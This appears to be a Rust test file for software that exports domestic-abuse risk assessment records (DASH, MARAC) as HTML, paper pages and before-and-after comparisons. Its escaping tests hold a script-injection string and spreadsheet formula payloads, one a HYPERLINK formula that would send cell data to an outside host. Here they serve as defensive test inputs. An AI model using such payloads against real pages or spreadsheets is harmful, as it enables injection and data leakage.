//! What leaves the page: as HTML to paste, on leaves of paper, and an earlier copy beside today's.

#![allow(clippy::expect_used, clippy::panic)] // a test that cannot go on stops

mod support {
    pub mod arbitrary;
}

use proptest::collection::vec;
use proptest::prelude::*;
use serde_json::json;
use support::arbitrary::{case, drawn, scribbled};
use waymark_case::Case;
use waymark_content::EN;
use waymark_engine::assess;
use waymark_record::leaves::{Height, cut, fill};
use waymark_record::{Block, Document, People, compare, decision_log, html, plain_text, summary};

fn people() -> People {
    People { one: "the tenant", two: "the visitor" }
}

fn case_of(json: serde_json::Value) -> Case {
    Case::from_json(json.to_string().as_bytes()).expect("a case")
}

/// Documents of cases that nobody thought of.
fn documents() -> impl Iterator<Item = Document> {
    drawn(scribbled(case())).flat_map(|(_, case)| {
        let assessment = assess(&case);
        [summary(&case, &assessment, &EN, &people()), decision_log(&case, &assessment, &EN, &people())]
    })
}

/// All texts of blocks in the order of reading, without white space. A table is read column by column, however often it goes
/// on under the same head.
fn letters(blocks: &[Block]) -> String {
    let mut all = String::new();
    let mut table: (&[String], Vec<String>) = (&[], Vec::new());
    for block in blocks.iter().map(Block::inner) {
        match block {
            Block::Table { head, rows } => {
                if head != table.0 {
                    all.extend(std::mem::replace(&mut table, (head, head.clone())).1);
                }
                for (column, cell) in rows.iter().flat_map(|row| row.iter().enumerate()) {
                    table.1[column].push_str(cell);
                }
                continue;
            }
            _ => all.extend(std::mem::take(&mut table).1),
        }
        match block {
            Block::Heading(_, text) | Block::Paragraph(text) | Block::Quote(text) => all.push_str(text),
            Block::List(lines) | Block::ToFill(lines) => lines.iter().for_each(|line| all.push_str(line)),
            Block::Facts(facts) => facts.iter().for_each(|(label, value)| all.extend([label.as_str(), value])),
            Block::Table { .. } | Block::NoClaim(..) => {}
        }
    }
    all.extend(table.1);
    all.retain(|letter| !letter.is_whitespace());
    all
}

// ---------------------------------------------------------------------------------------------------------- to paste

#[test]
fn html_holds_only_elements_that_carry_structure() {
    const OPEN: [&str; 16] = [
        "meta charset=\"utf-8\"",
        "h1",
        "h2",
        "h3",
        "p",
        "strong",
        "blockquote",
        "ul",
        "li",
        "br",
        "thead",
        "tbody",
        "tr",
        "table border=\"1\" cellspacing=\"0\" cellpadding=\"4\" width=\"100%\"",
        "td valign=\"top\"",
        "td valign=\"top\" width=\"60%\" height=\"36\"",
    ];
    for document in documents().take(400) {
        let html = html(std::slice::from_ref(&document));
        for tag in html.split('<').skip(1) {
            let (tag, text) = tag.split_once('>').expect("every < of ours is an element");
            let known = OPEN.contains(&tag.trim_start_matches('/')) || tag == "/table" || tag == "/td" || tag == "/th";
            assert!(known || tag.starts_with("th scope="), "<{tag}>");
            assert!(!text.contains('>'), "{text}");
        }
        let count = |tag: &str| html.matches(tag).count();
        let blocks = |of: fn(&Block) -> bool| {
            document.blocks.iter().filter(|block| !block.is_empty() && of(block.inner())).count()
        };
        let tables = blocks(|block| matches!(block, Block::Table { .. } | Block::Facts(_) | Block::ToFill(_)));
        assert_eq!(count("<table"), tables);
        assert_eq!(count("<thead"), blocks(|block| matches!(block, Block::Table { .. })));
        assert_eq!(count("<ul>"), blocks(|block| matches!(block, Block::List(_))));
        assert_eq!(count("<h2>") + count("<h3>"), blocks(|block| matches!(block, Block::Heading(..))));
    }
}

#[test]
fn what_a_text_holds_never_becomes_an_element() {
    let text = "<b>&amp;</b>\n\"x\" \u{0}\u{7}\t<script>alert(1)</script>".to_owned();
    let document = Document {
        notice: text.clone(),
        title: text.clone(),
        blocks: vec![Block::Table { head: vec![text.clone()], rows: vec![vec![text.clone(), String::new()]] }],
        version: text,
    };
    let html = html(&[document]);
    assert!(!html.contains("<b>") && !html.contains("<script") && !html.contains(['\u{0}', '\u{7}']));
    let escaped = "&lt;b&gt;&amp;amp;&lt;/b&gt;<br>&quot;x&quot;  &lt;script&gt;alert(1)&lt;/script&gt;";
    assert_eq!(html.matches(escaped).count(), 5);
    assert!(html.contains("<td valign=\"top\">&nbsp;</td>"));
}

#[test]
fn what_a_spreadsheet_would_work_out_stands_in_quotation_marks() {
    let cell = |text: &str| {
        let rows = vec![vec![text.to_owned(), text.to_owned()]];
        let blocks = vec![Block::Paragraph(text.to_owned()), Block::Table { head: Vec::new(), rows }];
        html(&[Document { notice: String::new(), title: String::new(), blocks, version: String::new() }])
    };
    for text in ["=1+41", " =HYPERLINK(\"http://x/?\"&A1)", "+1+41", "-1+41", "@SUM(A1)", "- she said\nno"] {
        let html = cell(text);
        assert_eq!(html.matches(">“").count(), 3, "{html}");
        assert!(!html.contains(">=") && !html.contains(">@"), "{html}");
    }
    for text in ["07700 900 123", "+44 1632 960001", "she said =", "no"] {
        assert!(!cell(text).contains('“'), "{text}");
    }
}

// ---------------------------------------------------------------------------------------------------------- on paper

/// Blocks as no page would make them, with long texts.
fn blocks() -> impl Strategy<Value = Vec<Block>> {
    let text = "([a-z]{1,12} ){0,200}[a-zé]{0,1000}";
    let table = (1..5_usize).prop_flat_map(move |columns| {
        (vec("[a-z]{1,8}", columns), vec(vec("([a-z]{1,9} ){0,80}", columns), 1..6))
            .prop_map(|(head, rows)| Block::Table { head, rows })
    });
    let block = prop_oneof![
        3 => "[a-z]{1,20}".prop_map(|text| Block::Heading(2, text)),
        2 => text.prop_map(Block::Paragraph),
        1 => text.prop_map(Block::Quote),
        2 => vec(text, 0..8).prop_map(Block::List),
        2 => vec(("[a-z]{1,9}", text), 0..6).prop_map(Block::Facts),
        1 => vec("[a-z]{1,30}".prop_map(String::from), 0..6).prop_map(Block::ToFill),
        2 => table,
    ];
    vec(block, 0..20)
}

/// How high a block would be where 100 letters make a line.
fn height(block: &Block) -> Height {
    let lines = |text: &str| 1.0 + text.chars().count() as f64 / 100.0;
    let parts = match block {
        Block::Heading(_, text) | Block::Paragraph(text) | Block::Quote(text) => vec![lines(text)],
        Block::List(all) | Block::ToFill(all) => all.iter().map(|line| lines(line)).collect(),
        Block::Facts(facts) => facts.iter().map(|(_, value)| lines(value)).collect(),
        // Cells stand beside each other: narrow ones are high.
        Block::Table { rows, .. } => {
            rows.iter().map(|row| row.iter().map(|cell| 4.0 * lines(cell)).fold(1.0, f64::max)).collect()
        }
        Block::NoClaim(_, block) => return height(block),
    };
    Height { around: 1.0, parts }
}

const ROOM: f64 = 40.0;

#[test]
fn leaves_hold_everything_once_in_order_and_none_is_too_full() {
    for blocks in drawn(blocks()).take(300) {
        let short = cut(&blocks);
        assert!(letters(&short) == letters(&blocks), "cutting loses something");
        let heights: Vec<Height> = short.iter().map(height).collect();
        let leaves = fill(&short, &heights, ROOM);
        assert!(letters(&leaves.concat()) == letters(&blocks), "filling loses something");
        for (number, leaf) in leaves.iter().enumerate() {
            let used: f64 =
                leaf.iter().map(height).map(|height| height.around + height.parts.iter().sum::<f64>()).sum();
            assert!(used <= ROOM + 1e-9, "leaf {number} is filled to {used}");
            assert!(!leaf.is_empty() || leaves.len() == 1);
            let next = leaves.get(number + 1);
            let last_is_heading = matches!(leaf.last(), Some(Block::Heading(..)));
            assert!(!last_is_heading || next.is_none(), "a heading stands alone at the foot of leaf {number}");
        }
    }
}

#[test]
fn no_text_on_a_leaf_is_longer_than_what_fits() {
    for blocks in drawn(blocks()).take(100) {
        for block in cut(&blocks) {
            let longest = match block.inner() {
                Block::Heading(..) | Block::ToFill(_) | Block::NoClaim(..) => 0,
                Block::Paragraph(text) | Block::Quote(text) => text.chars().count(),
                Block::List(lines) => lines.iter().map(|line| line.chars().count()).max().unwrap_or(0),
                Block::Facts(facts) => facts.iter().map(|(_, value)| value.chars().count()).max().unwrap_or(0),
                Block::Table { rows, .. } => {
                    3 * rows.iter().flatten().map(|cell| cell.chars().count()).max().unwrap_or(0)
                }
            };
            assert!(longest <= 900, "{longest}");
        }
    }
}

// ------------------------------------------------------------------------------------------- an earlier copy beside it

fn compared_cases(then: &Case, now: &Case) -> Document {
    compare((then, &assess(then)), (now, &assess(now)), &EN, &people())
}

fn compared(then: serde_json::Value, now: serde_json::Value) -> String {
    plain_text(&compared_cases(&case_of(then), &case_of(now)))
}

#[test]
fn what_changed_is_told_item_by_item_with_range_routes_and_outcome() {
    let yes: serde_json::Map<_, _> = (1..=14).map(|item| (item.to_string(), json!("yes"))).collect();
    let then = json!({"format": "waymark-case/1", "dash": {"with": "survivor", "answers": yes},
        "context": {"nation": "england", "pregnant": "no"}, "record": {"review_on": "1 May"}});
    let mut fewer = yes.clone();
    fewer.insert("3".into(), json!("dk"));
    let now = json!({"format": "waymark-case/1",
        "dash": {"with": "survivor", "answers": fewer, "sources": {"3": "police"}, "notes": {"3": "not sure now"}},
        "context": {"nation": "england", "pregnant": "yes"}, "record": {"review_on": "9 June"}});
    let text = compared(then, now);
    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
    for wanted in [
        "Dash 3, what they fear, and for whom – yes; now: don't know; source and note now: police; not sure now",
        "MARAC routes met – visible high risk: the count of yes answers; now: not assessed",
        EN.later().pages.compare.route_gone,
        "Pregnant",
        "a pregnancy",
        "1 May",
        "9 June",
    ] {
        assert!(flat.contains(wanted), "{wanted}\nis not in\n{text}");
    }
    assert!(flat.matches("Dash 4,").count() == 0, "what is the same is not listed");
}

#[test]
fn the_same_case_twice_has_no_change_and_no_comparison_ever_soothes() {
    for (_, case) in drawn(scribbled(case())).take(300) {
        let document = compared_cases(&case, &case);
        let texts = plain_text(&document);
        assert!(texts.contains(&EN.later().pages.compare.same[..20]));
        for heading in [
            EN.later().pages.compare.dash,
            EN.later().pages.compare.answers,
            EN.later().pages.compare.steps_new,
            EN.later().pages.compare.steps_gone,
        ] {
            assert!(!document.blocks.contains(&Block::Heading(2, heading.to_owned())), "{heading}");
        }
    }
    let cases: Vec<Case> = drawn(scribbled(case())).take(400).map(|(_, case)| case).collect();
    for pair in cases.windows(2) {
        let Document { blocks, .. } = compared_cases(&pair[0], &pair[1]);
        let headings = blocks.iter().filter_map(|block| match block {
            Block::Heading(_, text) => Some(text.to_lowercase()),
            _ => None,
        });
        for text in headings {
            assert!(!["low risk", "improved", "better", "worse"].iter().any(|word| text.contains(word)), "{text}");
        }
    }
}
